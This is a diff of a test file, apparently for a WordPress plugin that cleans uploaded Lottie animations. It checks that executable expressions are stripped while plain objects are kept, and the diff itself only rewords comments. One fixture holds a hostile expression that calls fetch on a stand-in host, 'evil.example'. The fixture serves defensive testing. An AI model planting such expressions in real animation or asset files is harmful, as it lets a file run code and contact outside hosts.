@@ -8,7 +8,7 @@ afterAll( () =>
 	php( `foreach ( array( ${ ids.join() } ) as $id ) { wp_delete_attachment( $id, true ); }` )
 );
 
-/** Uploads as the media library does, and answers what it is told. */
+/** Uploads a file as the media library does; returns the response. */
 async function upload( name: string, content: Buffer | string, role: Role = 'editor' ) {
 	const who = await visitor( role );
 	const body = new FormData();
@@ -69,7 +69,8 @@ describe( 'an animation keeps what a player needs', () => {
 				layers: [
 					{
 						...SPINNER.layers[ 0 ],
-						// An expression is a program. A position of its own is an object, and stays.
+						// An expression is a program. A position with its own value is an object
+						// and stays.
 						ks: {
 							o: { a: 0, k: 100, x: 'var $bm_rt = fetch( "//evil.example" );' },
 							p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
@@ -91,7 +92,7 @@ describe( 'an animation keeps what a player needs', () => {
 			o: { a: 0, k: 100 },
 			p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
 		} );
-		// Objects without anything stay objects.
+		// Empty objects stay objects.
 		expect( kept.fonts ).toEqual( {} );
 		expect( JSON.stringify( kept ) ).not.toMatch( /widget|html|rest_forbidden/ );
 	} );
